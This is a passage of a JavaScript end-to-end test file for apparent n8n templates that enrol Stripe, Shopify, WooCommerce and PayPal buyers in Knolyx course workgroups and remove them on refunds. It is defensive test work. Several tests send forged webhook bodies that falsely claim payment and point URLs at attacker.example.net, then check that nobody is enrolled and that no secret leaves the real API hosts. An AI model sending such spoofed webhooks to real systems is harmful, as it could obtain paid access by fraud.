	const ASYNC_SESSION = STRIPE.asyncCheckoutReadUnpaid.id;
	/** A delivery of `e`, an event Stripe has (GET /v1/events/<id> answers it). */
	const event = (e) => {
		stripeHas(`/v1/events/${e.id}`, e);
		return { [TRIGGER]: e };
	};
	/** A delivery of `e`, an event Stripe does not have (its id forged): the read answers 404. */
	const forgedEvent = (e) => ({ [TRIGGER]: e });

	beforeAll(async () => {
		// The user's Stripe credential, chosen in every Stripe node of the template.
		await useCredential(
			WF.stripe.id,
			'stripeApi',
			STRIPE_KEY,
			(n) => n.type === 'n8n-nodes-base.httpRequest',
		);
		stripeHas(`/v1/checkout/sessions/${SESSION}`, STRIPE.checkoutSessionRead);
		stripeHas(`/v1/invoices/${STRIPE.invoiceRead.id}`, STRIPE.invoiceRead);
		stripeHas(`/v1/charges/${STRIPE.chargeRead.id}`, STRIPE.chargeRead);
		stripeHas(`/v1/subscriptions/${STRIPE.subscriptionRead.id}`, STRIPE.subscriptionRead);
		stripeHas(`/v1/checkout/sessions/${ASYNC_SESSION}`, STRIPE.asyncCheckoutReadUnpaid);
	});

	test("checkout.session.completed, paid by Stripe's answer: the buyer is provisioned with a first/last split of the full name and enrolled in the price's workgroup", async () => {
		const sent = apis.requests.length;
		const { ex, state } = await run('stripe', TRIGGER, event(STRIPE.checkoutSessionCompleted));
		expect(membersOf(state, 201)).toContain(GRACE);
		expect(userByEmail(state, GRACE)).toMatchObject({
			firstName: 'Grace',
			lastName: 'Brewster Hopper',
		});
		expect(nodeOutput(ex, 'Enrol buyer in course workgroup')).toEqual([
			expect.objectContaining({ email: GRACE, workgroupId: 201, created: true }),
		]);
		// The event, then the session were read from api.stripe.com with the credential's key, by
		// their ids; the session with its subscription expanded (a one-off payment has none).
		expect(
			apis.requests.slice(sent).map((r) => [r.host, r.method, r.path, r.headers.authorization]),
		).toEqual([
			[
				'api.stripe.com',
				'GET',
				`/v1/events/${STRIPE.checkoutSessionCompleted.id}`,
				`Bearer ${STRIPE_KEY.secretKey}`,
			],
			[
				'api.stripe.com',
				'GET',
				`/v1/checkout/sessions/${SESSION}`,
				`Bearer ${STRIPE_KEY.secretKey}`,
			],
		]);
		expect(apis.requests.at(-1).query).toMatchObject({ 'expand[2]': 'subscription' });
	});

	test('the same event again (Stripe resends): the business state is unchanged', async () => {
		await expectReplayChangesNothing('stripe', TRIGGER, event(STRIPE.checkoutSessionCompleted));
	});

	test("forged events: an event id Stripe does not have, for a session Stripe reports paid; a body that changes Stripe's event to say paid and name another host: nobody enrolled, the key went to api.stripe.com only", async () => {
		// A paid session whose buyer was never enrolled (its real event not delivered yet).
		const paid = structuredClone(STRIPE.checkoutSessionRead);
		paid.id = 'cs_test_paidButEventForged000000001';
		paid.customer_details = { ...paid.customer_details, email: 'forger@example.com' };
		stripeHas(`/v1/checkout/sessions/${paid.id}`, paid);
		const sent = apis.requests.length;
		const before = await sb.businessState();
		const unknown = structuredClone(STRIPE.checkoutSessionCompleted);
		unknown.id = 'evt_1QForgedEventIdStripeLacks01';
		unknown.data.object.id = paid.id;
		unknown.data.object.customer_details.email = 'forger@example.com';
		const failed = await runPinned(rest, WF.stripe.id, TRIGGER, forgedEvent(unknown));
		expect(failed.status).toBe('error');

		// Stripe has this event (unpaid, async); the delivery says paid and names another host.
		stripeHas(`/v1/events/${STRIPE.asyncCheckoutCompleted.id}`, STRIPE.asyncCheckoutCompleted);
		const saysPaid = structuredClone(STRIPE.asyncCheckoutCompleted);
		saysPaid.data.object.payment_status = 'paid';
		saysPaid.data.object.url = 'https://attacker.example.net/v1/checkout/sessions';
		saysPaid.request = { id: null, idempotency_key: null, url: 'https://attacker.example.net/' };
		const { knolyxRequests } = await run('stripe', TRIGGER, forgedEvent(saysPaid));
		expect(knolyxRequests).toBe(0);
		expect(await sb.businessState()).toEqual(before);
		expect(userByEmail(await sb.state(), 'forger@example.com')).toBeUndefined();
		expect(apis.requests.slice(sent).map((r) => [r.host, r.path, r.status])).toEqual([
			['api.stripe.com', `/v1/events/${unknown.id}`, 404],
			['api.stripe.com', `/v1/events/${STRIPE.asyncCheckoutCompleted.id}`, 200],
			['api.stripe.com', `/v1/checkout/sessions/${ASYNC_SESSION}`, 200],
		]);
		expect(apis.refused).toEqual([]);
	});

	test('async payment (SEPA): completed unpaid enrols nobody, async_payment_failed enrols nobody, async_payment_succeeded (Stripe now says paid) enrols', async () => {
		for (const e of [STRIPE.asyncCheckoutCompleted, STRIPE.asyncPaymentFailed]) {
			const { knolyxRequests } = await run('stripe', TRIGGER, event(e));
			expect(knolyxRequests).toBe(0);
		}
		expect(userByEmail(await sb.state(), MARY)).toBeUndefined();
		stripeHas(`/v1/checkout/sessions/${ASYNC_SESSION}`, STRIPE.asyncCheckoutReadPaid);
		const { state } = await run('stripe', TRIGGER, event(STRIPE.asyncPaymentSucceeded));
		expect(membersOf(state, 201)).toContain(MARY);
	});

	test('a fully discounted Checkout (Stripe says no_payment_required, no payment_intent) enrols, as a free order does in the other templates', async () => {
		const free = structuredClone(STRIPE.checkoutSessionRead);
		Object.assign(free, {
			id: 'cs_test_fullyDiscounted0000000001',
			payment_status: 'no_payment_required',
			payment_intent: null,
			amount_subtotal: 4900,
			amount_total: 0,
			customer_details: {
				...free.customer_details,
				email: 'free.coupon@example.com',
				name: 'Free Coupon',
			},
		});
		stripeHas(`/v1/checkout/sessions/${free.id}`, free);
		const e = structuredClone(STRIPE.checkoutSessionCompleted);
		e.id = 'evt_1QTestFullyDiscounted000001';
		e.data.object.id = free.id;
		const { state } = await run('stripe', TRIGGER, event(e));
		expect(membersOf(state, 201)).toContain('free.coupon@example.com');
	});

	test('an unmapped price: the execution stops with a message naming the price and the node to edit; nobody enrolled', async () => {
		const read = structuredClone(STRIPE.checkoutSessionRead);
		read.id = 'cs_test_unmapped';
		read.customer_details.email = 'unmapped.buyer@example.com';
		read.line_items.data[0].price.id = 'price_1QNotInTheMapping';
		stripeHas('/v1/checkout/sessions/cs_test_unmapped', read);
		const e = structuredClone(STRIPE.checkoutSessionCompleted);
		e.id = 'evt_1QTestUnmappedPrice0000001';
		e.data.object.id = 'cs_test_unmapped';
		await expectStop(
			'stripe',
			TRIGGER,
			event(e),
			/Stripe price price_1QNotInTheMapping is not in the node "Price → workgroup \(edit me\)"/,
		);
	});

	const SUBSCRIPTION = `/v1/subscriptions/${STRIPE.subscriptionRead.id}`;

	test('invoice.paid of a subscription Stripe reports active: the invoice and its subscription read from Stripe; the customer (one-word name: last name "-") is enrolled in the workgroup of the invoice line\'s price', async () => {
		stripeHas(SUBSCRIPTION, { ...STRIPE.subscriptionRead, status: 'active', canceled_at: null });
		const sent = apis.requests.length;
		const { state } = await run('stripe', TRIGGER, event(STRIPE.invoicePaid));
		expect(apis.requests.slice(sent).map((r) => [r.host, r.path, r.status])).toEqual([
			['api.stripe.com', `/v1/events/${STRIPE.invoicePaid.id}`, 200],
			['api.stripe.com', `/v1/invoices/${STRIPE.invoiceRead.id}`, 200],
			['api.stripe.com', SUBSCRIPTION, 200],
		]);
		expect(membersOf(state, 202)).toContain(KATHERINE);
		expect(userByEmail(state, KATHERINE)).toMatchObject({ firstName: 'Katherine', lastName: '-' });
	});

	test('charge.refunded (Stripe says fully refunded): the buyer is removed from the workgroups of the refunded checkout, others untouched', async () => {
		const { ex, state } = await run('stripe', TRIGGER, event(STRIPE.chargeRefunded));
		expect(membersOf(state, 201)).not.toContain(GRACE);
		expect(membersOf(state, 202)).toContain(KATHERINE);
		expect(nodeOutput(ex, 'Remove buyer from course workgroup')).toEqual([
			expect.objectContaining({ email: GRACE, workgroupId: 201, removed: true }),
		]);
	});

	test("the old checkout event resent after the refund: Stripe's answer shows the charge refunded, nobody enrolled", async () => {
		const read = structuredClone(STRIPE.checkoutSessionRead);
		read.payment_intent.latest_charge.refunded = true;
		read.payment_intent.latest_charge.amount_refunded = 4900;
		stripeHas(`/v1/checkout/sessions/${SESSION}`, read);
		const { knolyxRequests } = await run('stripe', TRIGGER, event(STRIPE.checkoutSessionCompleted));
		expect(knolyxRequests).toBe(0);
		expect(membersOf(await sb.state(), 201)).not.toContain(GRACE);
	});

	test('a partial refund (Stripe says refunded: false) removes nothing', async () => {
		stripeHas(`/v1/charges/${STRIPE.chargeRead.id}`, {
			...STRIPE.chargeRead,
			refunded: false,
			amount_refunded: 1000,
		});
		const { knolyxRequests } = await run('stripe', TRIGGER, event(STRIPE.chargeRefunded));
		expect(knolyxRequests).toBe(0);
	});

	test('customer.subscription.deleted of a deleted Stripe customer: stops with a message naming the customer; nobody removed', async () => {
		stripeHas(`/v1/subscriptions/${STRIPE.subscriptionRead.id}`, {
			...STRIPE.subscriptionRead,
			customer: STRIPE.deletedCustomer,
		});
		await expectStop(
			'stripe',
			TRIGGER,
			event(STRIPE.customerSubscriptionDeleted),
			/Stripe customer cus_RMfP9q8R7s6T5u of subscription sub_\w+ is deleted or has no e-mail/,
		);
	});

	test('a subscription.deleted body for a subscription Stripe still reports active removes nobody', async () => {
		stripeHas(`/v1/subscriptions/${STRIPE.subscriptionRead.id}`, {
			...STRIPE.subscriptionRead,
			status: 'active',
		});
		const { knolyxRequests } = await run(
			'stripe',
			TRIGGER,
			event(STRIPE.customerSubscriptionDeleted),
		);
		expect(knolyxRequests).toBe(0);
		expect(membersOf(await sb.state(), 202)).toContain(KATHERINE);
	});

	test("customer.subscription.deleted (canceled by Stripe's answer): the subscriber is removed from the workgroup of the subscription's price, others untouched", async () => {
		stripeHas(`/v1/subscriptions/${STRIPE.subscriptionRead.id}`, STRIPE.subscriptionRead);
		const before = await sb.state();
		expect(membersOf(before, 202)).toContain(KATHERINE);
		const { ex, state } = await run('stripe', TRIGGER, event(STRIPE.customerSubscriptionDeleted));
		expect(membersOf(state, 202)).toEqual(
			membersOf(before, 202).filter((email) => email !== KATHERINE),
		);
		expect(membersOf(state, 201)).toEqual(membersOf(before, 201));
		expect(nodeOutput(ex, 'Remove buyer from course workgroup')).toEqual([
			expect.objectContaining({ email: KATHERINE, workgroupId: 202, removed: true }),
		]);
	});

	test('the old invoice.paid resent after the subscription ended (Stripe reports it canceled): nobody enrolled again', async () => {
		expect(membersOf(await sb.state(), 202)).not.toContain(KATHERINE);
		const { knolyxRequests } = await run('stripe', TRIGGER, event(STRIPE.invoicePaid));
		expect(knolyxRequests).toBe(0);
		expect(membersOf(await sb.state(), 202)).not.toContain(KATHERINE);
	});

	describe('a Checkout Session in subscription mode (no payment_intent; it stays paid after the subscription ends)', () => {
		const MAE = { email: 'mae.jemison@example.com', name: 'Mae Jemison' };
		const PRICE = 'price_1QTpkALn4cE9xJ2QAdvAutoM'; // → 202
		const SUB_ID = 'sub_1QTestSubscriptionMode00001';
		const subscription = (status) => ({
			...structuredClone(STRIPE.subscriptionRead),
			id: SUB_ID,
			status,
			customer: { ...STRIPE.subscriptionRead.customer, email: MAE.email, name: MAE.name },
		});
		/** Stripe reports the subscription `status`: read by itself, or expanded in the session. */
		const stripeReports = (status) => {
			const sub = subscription(status);
			stripeHas(`/v1/subscriptions/${SUB_ID}`, sub);
			const session = structuredClone(STRIPE.checkoutSessionRead);
			Object.assign(session, {
				id: 'cs_test_subscriptionMode000000000001',
				mode: 'subscription',
				payment_intent: null,
				payment_status: 'paid',
				subscription: { ...sub, customer: sub.customer.id },
				customer_details: { ...session.customer_details, ...MAE },
			});
			for (const line of session.line_items.data) line.price.id = PRICE;
			stripeHas(`/v1/checkout/sessions/${session.id}`, session);
			return session;
		};
		const checkout = structuredClone(STRIPE.checkoutSessionCompleted);
		checkout.id = 'evt_1QTestSubscriptionCheckout01';
		Object.assign(checkout.data.object, {
			id: 'cs_test_subscriptionMode000000000001',
			mode: 'subscription',
			payment_intent: null,
			subscription: SUB_ID,
			customer_details: { ...checkout.data.object.customer_details, ...MAE },
		});
		const ended = structuredClone(STRIPE.customerSubscriptionDeleted);
		ended.id = 'evt_1QTestSubscriptionEnded0001';
		ended.data.object.id = SUB_ID;

		test('the subscription is active: enrolled', async () => {
			stripeReports('active');
			const { state } = await run('stripe', TRIGGER, event(checkout));
			expect(membersOf(state, 202)).toContain(MAE.email);
		});

		test('the subscription ended (removed), then the old checkout event again (a resend from Stripe): Stripe reports the subscription canceled, nobody enrolled', async () => {
			stripeReports('canceled');
			const { state } = await run('stripe', TRIGGER, event(ended));
			expect(membersOf(state, 202)).not.toContain(MAE.email);
			const { knolyxRequests } = await run('stripe', TRIGGER, event(checkout));
			expect(knolyxRequests).toBe(0);
			expect(membersOf(await sb.state(), 202)).not.toContain(MAE.email);
		});

		test('a trialing subscription enrols; past_due or unpaid does not', async () => {
			for (const status of ['past_due', 'unpaid']) {
				stripeReports(status);
				const { knolyxRequests } = await run('stripe', TRIGGER, event(checkout));
				expect({ status, knolyxRequests }).toEqual({ status, knolyxRequests: 0 });
			}
			stripeReports('trialing');
			const { state } = await run('stripe', TRIGGER, event(checkout));
			expect(membersOf(state, 202)).toContain(MAE.email);
		});
	});

	test('an invoice without a subscription (a one-off invoice) enrols without a subscription read', async () => {
		const oneOff = structuredClone(STRIPE.invoiceRead);
		oneOff.id = 'in_1QTq0YLn4cE9xJ2QoneOff01';
		oneOff.subscription = null;
		oneOff.billing_reason = 'manual';
		oneOff.customer_email = 'one.off.buyer@example.com';
		oneOff.customer_name = 'One Off';
		for (const line of oneOff.lines.data) {
			line.subscription = null;
			line.type = 'invoiceitem';
		}
		stripeHas(`/v1/invoices/${oneOff.id}`, oneOff);
		const e = structuredClone(STRIPE.invoicePaid);
		e.id = 'evt_1QTq0YLn4cE9xJ2QoneOff01';
		e.data.object.id = oneOff.id;
		const sent = apis.requests.length;
		const { state } = await run('stripe', TRIGGER, event(e));
		expect(membersOf(state, 202)).toContain('one.off.buyer@example.com');
		expect(apis.requests.slice(sent).map((r) => r.path)).toEqual([
			`/v1/events/${e.id}`,
			`/v1/invoices/${oneOff.id}`,
		]);
	});

	test('every request of these runs carried the Stripe key to api.stripe.com and nowhere else', () => {
		expectSecretOnlyTo(STRIPE_KEY.secretKey, 'api.stripe.com', 10);
	});
});

// ----------------------------------------------------------------- 3.

/** Run with pins; the execution must stop with an error matching `message`, and Knolyx receive nothing. */
async function expectStop(key, trigger, pins, message) {
	const before = await sb.stats();
	const state = await sb.businessState();
	const ex = await runPinned(rest, WF[key].id, trigger, pins);
	expect(ex.status).toBe('error');
	expect(ex.run.resultData.error.message).toMatch(message);
	expect((await sb.stats()).requests - before.requests).toBe(0);
	expect(await sb.businessState()).toEqual(state);
	return ex;
}

describe("3. Shopify: what the shop's API (a local stand-in for the credential's <shop>.myshopify.com) says is paid enrols per course product; a refund removes its own lines", () => {
	const PAID = 'On Shopify order paid';
	const REFUND = 'On Shopify refund';
	const MARGARET = 'margaret.hamilton@example.com';
	/** A copy of the paid-order sample for another order id and buyer. */
	const another = (id, email, change = (o) => o) => {
		const body = { ...structuredClone(SHOPIFY.ordersPaid), id, email, contact_email: email };
		const read = change({ ...structuredClone(SHOPIFY.orderRead), id, email, contact_email: email });
		return { body, read };
	};

	beforeAll(async () => {
		await useCredential(
			WF.shopify.id,
			'shopifyAccessTokenApi',
			SHOPIFY_CREDENTIAL,
			(n) => n.type === 'n8n-nodes-base.shopify',
		);
		shopHas(SHOPIFY.orderRead);
	});

	test('orders/paid: the order is read from the shop with the access token; enrolled in the workgroup of each mapped product (the mug is mapped to null: no course); resent: nothing changes', async () => {
		const sent = apis.requests.length;
		const { state, ex } = await run('shopify', PAID, { [PAID]: SHOPIFY.ordersPaid });
		expect(membersOf(state, 201)).toContain(MARGARET);
		expect(membersOf(state, 203)).toContain(MARGARET);
		expect(userByEmail(state, MARGARET)).toMatchObject({
			firstName: 'Margaret',
			lastName: 'Hamilton',
		});
		expect(
			nodeOutput(ex, 'Enrol buyer in course workgroup')
				.map((o) => o.workgroupId)
				.sort(),
		).toEqual([201, 203]);
		expect(
			apis.requests
				.slice(sent)
				.map((r) => [r.host, r.method, toolPath(r.path), r.headers['x-shopify-access-token']]),
		).toEqual([
			[
				SHOPIFY_HOST,
				'GET',
				`/admin/api/orders/${SHOPIFY.orderRead.id}.json`,
				SHOPIFY_CREDENTIAL.accessToken,
			],
		]);
		await expectReplayChangesNothing('shopify', PAID, { [PAID]: SHOPIFY.ordersPaid });
	});

	test('forged: a body for an order the shop does not have fails; one that says paid, with its URLs on another host, for an order the shop reports pending: nobody enrolled, nothing sent to another host', async () => {
		const before = await sb.businessState();
		const sent = apis.requests.length;
		const unknown = another(5837204879999, 'forger@example.com');
		const failed = await runPinned(rest, WF.shopify.id, PAID, { [PAID]: unknown.body });
		expect(failed.status).toBe('error');

		const pending = another(5837204870001, 'someone.else@example.com', (o) => ({
			...o,
			financial_status: 'pending',
		}));
		pending.body.order_status_url = 'https://attacker.example.net/orders/status';
		pending.body.admin_graphql_api_id = 'https://attacker.example.net/admin/api/graphql.json';
		shopHas(pending.read);
		const { knolyxRequests } = await run('shopify', PAID, { [PAID]: pending.body });
		expect(knolyxRequests).toBe(0);
		expect(await sb.businessState()).toEqual(before);
		expect(apis.requests.slice(sent).map((r) => [r.host, toolPath(r.path), r.status])).toEqual([
			[SHOPIFY_HOST, '/admin/api/orders/5837204879999.json', 404],
			[SHOPIFY_HOST, '/admin/api/orders/5837204870001.json', 200],
		]);
		expect(apis.refused).toEqual([]);
	});

	test('a product not in the mapping: stops naming the product and the node; nobody enrolled', async () => {
		const unmapped = another(5837204870002, 'unmapped.buyer@example.com', (o) => {
			o.line_items[0].product_id = 9999000111222;
			return o;
		});
		shopHas(unmapped.read);
		await expectStop(
			'shopify',
			PAID,
			{ [PAID]: unmapped.body },
			/Shopify product 9999000111222 is not in the node "Product → workgroup \(edit me\)"/,
		);
	});

	test('refunds/create: removed from the course of the refunded line only; again: nothing changes', async () => {
		shopHas(SHOPIFY.refundedOrderRead);
		const { state } = await run('shopify', REFUND, { [REFUND]: SHOPIFY.refundsCreate });
		expect(membersOf(state, 203)).not.toContain(MARGARET);
		expect(membersOf(state, 201)).toContain(MARGARET);
		await expectReplayChangesNothing('shopify', REFUND, { [REFUND]: SHOPIFY.refundsCreate });
	});

	test('a refund the order read back does not list: stops, nobody removed', async () => {
		await expectStop(
			'shopify',
			REFUND,
			{ [REFUND]: { ...SHOPIFY.refundsCreate, id: 1 } },
			/Shopify order 5837204873512 has no refund 1/,
		);
	});

	test('the access token went to the shop only', () => {
		expectSecretOnlyTo(SHOPIFY_CREDENTIAL.accessToken, SHOPIFY_HOST, 4);
	});

	test("a test order (test: true, Shopify's test gateway) enrols nobody; with enrolTestOrders set to true in the mapping node it enrols", async () => {
		const LINDA = 'linda.test@example.com';
		const { body, read } = another(5837204870055, LINDA, (o) => ({ ...o, test: true }));
		body.test = true;
		shopHas(read);
		const { knolyxRequests } = await run('shopify', PAID, { [PAID]: body });
		expect(knolyxRequests).toBe(0);
		await setField('shopify', 'Product → workgroup (edit me)', 'enrolTestOrders', true);
		try {
			const { state } = await run('shopify', PAID, { [PAID]: body });
			expect(membersOf(state, 201)).toContain(LINDA);
		} finally {
			await setField('shopify', 'Product → workgroup (edit me)', 'enrolTestOrders', false);
		}
	});
});

// ----------------------------------------------------------------- 4.

/** The WooCommerce credential of sections 4 and 4b: the store's URL is the stand-in's host. */
const WOO_CREDENTIAL = {
	url: WOOCOMMERCE_STORE,
	consumerKey: 'ck_standInConsumerKeyForTheTemplatesE2e01',
	consumerSecret: 'cs_standInConsumerSecretForTheTemplatesE2e',
	includeCredentialsInQuery: false,
};
/** The store has `order` (GET /wp-json/wc/v3/orders/<id>). */
const storeHas = (order) => toolHas(WOOCOMMERCE_HOST, `/wp-json/wc/v3/orders/${order.id}`, order);

describe("4. WooCommerce: an order the store's API (a local stand-in for the credential's store URL) reports processing or completed enrols once; refunded removes", () => {
	const TRIGGER = 'On WooCommerce order updated';
	const DOROTHY = 'dorothy.vaughan@example.com';
	const processing = { ...WOO.orderCompleted, status: 'processing', date_completed: null };
	const basic = `Basic ${Buffer.from(`${WOO_CREDENTIAL.consumerKey}:${WOO_CREDENTIAL.consumerSecret}`).toString('base64')}`;

	beforeAll(async () => {
		await useCredential(
			WF.woo.id,
			'wooCommerceApi',
			WOO_CREDENTIAL,
			(n) => n.type === 'n8n-nodes-base.wooCommerce',
		);
	});

	test('processing (paid): the order is read from the store with the consumer key; enrolled; the same order completed later: nothing changes', async () => {
		storeHas(processing);
		const sent = apis.requests.length;
		const { state, ex } = await run('woo', TRIGGER, { [TRIGGER]: processing });
		expect(membersOf(state, 202).filter((e) => e === DOROTHY)).toEqual([DOROTHY]);
		expect(userByEmail(state, DOROTHY)).toMatchObject({
			firstName: 'Dorothy',
			lastName: 'Vaughan',
		});
		expect(nodeOutput(ex, 'Enrol buyer in course workgroup')).toHaveLength(1);
		expect(
			apis.requests.slice(sent).map((r) => [r.host, r.method, r.path, r.headers.authorization]),
		).toEqual([[WOOCOMMERCE_HOST, 'GET', `/wp-json/wc/v3/orders/${processing.id}`, basic]]);
		storeHas(WOO.orderCompleted);
		await expectReplayChangesNothing('woo', TRIGGER, { [TRIGGER]: WOO.orderCompleted });
	});

	test('forged: a body for an order the store does not have fails; one that says completed, with its links on another host, for an order the store reports on-hold: nobody enrolled, nothing sent to another host', async () => {
		const before = await sb.businessState();
		const sent = apis.requests.length;
		const forged = (id, email) => ({
			...structuredClone(WOO.orderCompleted),
			id,
			billing: { ...WOO.orderCompleted.billing, email },
			payment_url: 'https://attacker.example.net/checkout/order-pay/',
			_links: { self: [{ href: `https://attacker.example.net/wp-json/wc/v3/orders/${id}` }] },
		});
		const failed = await runPinned(rest, WF.woo.id, TRIGGER, {
			[TRIGGER]: forged(99999, 'forger@example.com'),
		});
		expect(failed.status).toBe('error');

		const order = forged(1188, 'not.paid@example.com');
		storeHas({ ...structuredClone(WOO.orderCompleted), ...order, status: 'on-hold', _links: {} });
		const { knolyxRequests } = await run('woo', TRIGGER, { [TRIGGER]: order });
		expect(knolyxRequests).toBe(0);
		expect(await sb.businessState()).toEqual(before);
		expect(apis.requests.slice(sent).map((r) => [r.host, r.path, r.status])).toEqual([
			[WOOCOMMERCE_HOST, '/wp-json/wc/v3/orders/99999', 404],
			[WOOCOMMERCE_HOST, '/wp-json/wc/v3/orders/1188', 200],
		]);
		expect(apis.refused).toEqual([]);
	});

	test('Cash on Delivery: processing but unpaid (date_paid null) enrols nobody; the same order completed (paid on delivery) enrols', async () => {
		const cod = {
			...structuredClone(WOO.orderCompleted),
			id: 1192,
			status: 'processing',
			payment_method: 'cod',
			payment_method_title: 'Cash on delivery',
			date_paid: null,
			date_paid_gmt: null,
			date_completed: null,
			date_completed_gmt: null,
			billing: {
				...WOO.orderCompleted.billing,
				first_name: 'Gladys',
				last_name: 'West',
				email: 'gladys.west@example.com',
			},
		};
		storeHas(cod);
		const { knolyxRequests } = await run('woo', TRIGGER, { [TRIGGER]: cod });
		expect(knolyxRequests).toBe(0);
		expect(userByEmail(await sb.state(), 'gladys.west@example.com')).toBeUndefined();

		const delivered = {
			...cod,
			status: 'completed',
			date_completed: '2026-11-28T10:00:00',
			date_completed_gmt: '2026-11-28T09:00:00',
			date_modified: '2026-11-28T10:00:00',
			date_modified_gmt: '2026-11-28T09:00:00',
		};
		storeHas(delivered);
		const { state } = await run('woo', TRIGGER, { [TRIGGER]: delivered });
		expect(membersOf(state, 202)).toContain('gladys.west@example.com');
	});

	test('refunded: removed; again: nothing changes', async () => {
		const refunded = { ...WOO.orderCompleted, ...WOO.refundedChanges };
		storeHas(refunded);
		const { state } = await run('woo', TRIGGER, { [TRIGGER]: refunded });
		expect(membersOf(state, 202)).not.toContain(DOROTHY);
		await expectReplayChangesNothing('woo', TRIGGER, { [TRIGGER]: refunded });
	});

	test('the consumer key and secret went to the store only', () => {
		expectSecretOnlyTo(basic.slice('Basic '.length), WOOCOMMERCE_HOST, 4);
	});
});

// ----------------------------------------------------------------- 4b.

describe('4b. a failed Knolyx write: the resend from the tool runs again and enrols once', () => {
	const TRIGGER = 'On WooCommerce order updated';
	const order = {
		...WOO.orderCompleted,
		id: 1190,
		billing: {
			...WOO.orderCompleted.billing,
			first_name: 'Frances',
			last_name: 'Allen',
			email: 'frances.allen@example.com',
		},
	};
	const pins = { [TRIGGER]: order };

	test('Knolyx refuses the first request: the execution fails; the same event resent enrols, once', async () => {
		storeHas(order);
		await sb.request('POST', '/sandbox/fault-burst', {
			requests: 1,
			faults: { errorRate: 1, errorStatuses: [400] },
		});
		const failed = await runPinned(rest, WF.woo.id, TRIGGER, pins);
		expect(failed.status).toBe('error');
		expect(membersOf(await sb.state(), 202)).not.toContain('frances.allen@example.com');
		await sb.request('DELETE', '/sandbox/fault-burst');

		const { state } = await run('woo', TRIGGER, pins);
		expect(membersOf(state, 202).filter((e) => e === 'frances.allen@example.com')).toHaveLength(1);
		expect(userByEmail(state, 'frances.allen@example.com')).toMatchObject({
			firstName: 'Frances',
			lastName: 'Allen',
		});
		await expectReplayChangesNothing('woo', TRIGGER, pins);
	});
});

// ----------------------------------------------------------------- 5.

describe("5. PayPal: a capture PayPal's API (a local stand-in for api-m.paypal.com) reports COMPLETED enrols; one it reports REFUNDED removes", () => {
	const TRIGGER = 'On PayPal payment captured or refunded';
	const ANNIE = 'annie.easley@example.com';
	const basic = Buffer.from(`${PAYPAL_OAUTH.clientId}:${PAYPAL_OAUTH.clientSecret}`).toString(
		'base64',
	);
	const CAPTURE = `/v2/payments/captures/${PAYPAL.captureRead.id}`;
	const captured = { [TRIGGER]: PAYPAL.captureCompleted };
	const refunded = { [TRIGGER]: PAYPAL.captureRefunded };

	beforeAll(async () => {
		await useCredential(WF.paypal.id, 'oAuth2Api', PAYPAL_OAUTH, (n) =>
			n.name.endsWith('from PayPal'),
		);
		paypalHas(`/v2/checkout/orders/${PAYPAL.order.id}`, PAYPAL.order);
		paypalHas(`/v2/payments/refunds/${PAYPAL.refundRead.id}`, PAYPAL.refundRead);
	});

	test('forged: a capture PayPal does not have fails; a body that says COMPLETED, with its links on another host, for a capture PayPal reports PENDING: nobody enrolled, nothing sent to another host', async () => {
		const before = await sb.businessState();
		const sent = apis.requests.length;
		const unknown = structuredClone(PAYPAL.captureCompleted);
		unknown.resource.id = '9ZZ99999ZZ999999Z';
		unknown.resource.links = unknown.resource.links.map((l) => ({
			...l,
			href: l.href.replace('https://api.paypal.com', 'https://attacker.example.net'),
		}));
		const failed = await runPinned(rest, WF.paypal.id, TRIGGER, { [TRIGGER]: unknown });
		expect(failed.status).toBe('error');

		paypalHas(CAPTURE, { ...PAYPAL.captureRead, status: 'PENDING' });
		const { knolyxRequests } = await run('paypal', TRIGGER, {
			[TRIGGER]: { ...unknown, resource: { ...unknown.resource, id: PAYPAL.captureRead.id } },
		});
		expect(knolyxRequests).toBe(0);
		expect(await sb.businessState()).toEqual(before);
		expect(
			apis.requests
				.slice(sent)
				.filter((r) => r.path !== '/v1/oauth2/token')
				.map((r) => [r.host, r.path, r.status]),
		).toEqual([
			['api-m.paypal.com', '/v2/payments/captures/9ZZ99999ZZ999999Z', 404],
			['api-m.paypal.com', CAPTURE, 200],
		]);
		expect(apis.refused).toEqual([]);
	});

	test("PAYMENT.CAPTURE.COMPLETED: capture and order read from PayPal with the credential's token; enrolled by item SKU; resent: nothing changes", async () => {
		paypalHas(CAPTURE, PAYPAL.captureRead);
		const sent = apis.requests.length;
		const { state } = await run('paypal', TRIGGER, captured);
		expect(membersOf(state, 201)).toContain(ANNIE);
		expect(userByEmail(state, ANNIE)).toMatchObject({ firstName: 'Annie', lastName: 'Easley' });
		expect(
			apis.requests
				.slice(sent)
				.filter((r) => r.path !== '/v1/oauth2/token')
				.map((r) => [r.host, r.method, r.path, r.headers.authorization]),
		).toEqual([
			['api-m.paypal.com', 'GET', CAPTURE, `Bearer ${PAYPAL_TOKEN.access_token}`],
			[
				'api-m.paypal.com',
				'GET',
				`/v2/checkout/orders/${PAYPAL.order.id}`,
				`Bearer ${PAYPAL_TOKEN.access_token}`,
			],
		]);
		await expectReplayChangesNothing('paypal', TRIGGER, captured);
	});

	test('a partial refund (capture PARTIALLY_REFUNDED) removes nobody', async () => {
		paypalHas(CAPTURE, { ...PAYPAL.refundedCapture, status: 'PARTIALLY_REFUNDED' });
		const { knolyxRequests } = await run('paypal', TRIGGER, refunded);
		expect(knolyxRequests).toBe(0);
	});

	test('PAYMENT.CAPTURE.REFUNDED (capture REFUNDED): removed; resent: nothing changes', async () => {
		paypalHas(CAPTURE, PAYPAL.refundedCapture);
		const { state } = await run('paypal', TRIGGER, refunded);
		expect(membersOf(state, 201)).not.toContain(ANNIE);
		await expectReplayChangesNothing('paypal', TRIGGER, refunded);
	});

	// One 'paid' policy across the tools (issue 56): a partly refunded payment is still paid, as
	// Stripe's and Shopify's templates have it; PayPal's enrolled nobody, silently, when the capture
	// was partly refunded before its paid event ran.
	test('PAYMENT.CAPTURE.COMPLETED read back PARTIALLY_REFUNDED (a partial refund came first): still paid, the payer is enrolled', async () => {
		paypalHas(CAPTURE, { ...PAYPAL.captureRead, status: 'PARTIALLY_REFUNDED' });
		expect(membersOf(await sb.state(), 201)).not.toContain(ANNIE);
		const { state } = await run('paypal', TRIGGER, captured);
		expect(membersOf(state, 201)).toContain(ANNIE);
	});

	test('the client secret went to the token URL on api-m.paypal.com only, the token to api-m.paypal.com only', () => {
		const tokenRequests = apis.requests.filter((r) => r.path === '/v1/oauth2/token');
		expect(tokenRequests.length).toBeGreaterThan(0);
		expect(tokenRequests.map((r) => [r.host, r.method])).toEqual(
			tokenRequests.map(() => ['api-m.paypal.com', 'POST']),
		);
		const withSecret = apis.requests.filter(
			(r) =>
				JSON.stringify([r.headers, r.query]).includes(basic) ||
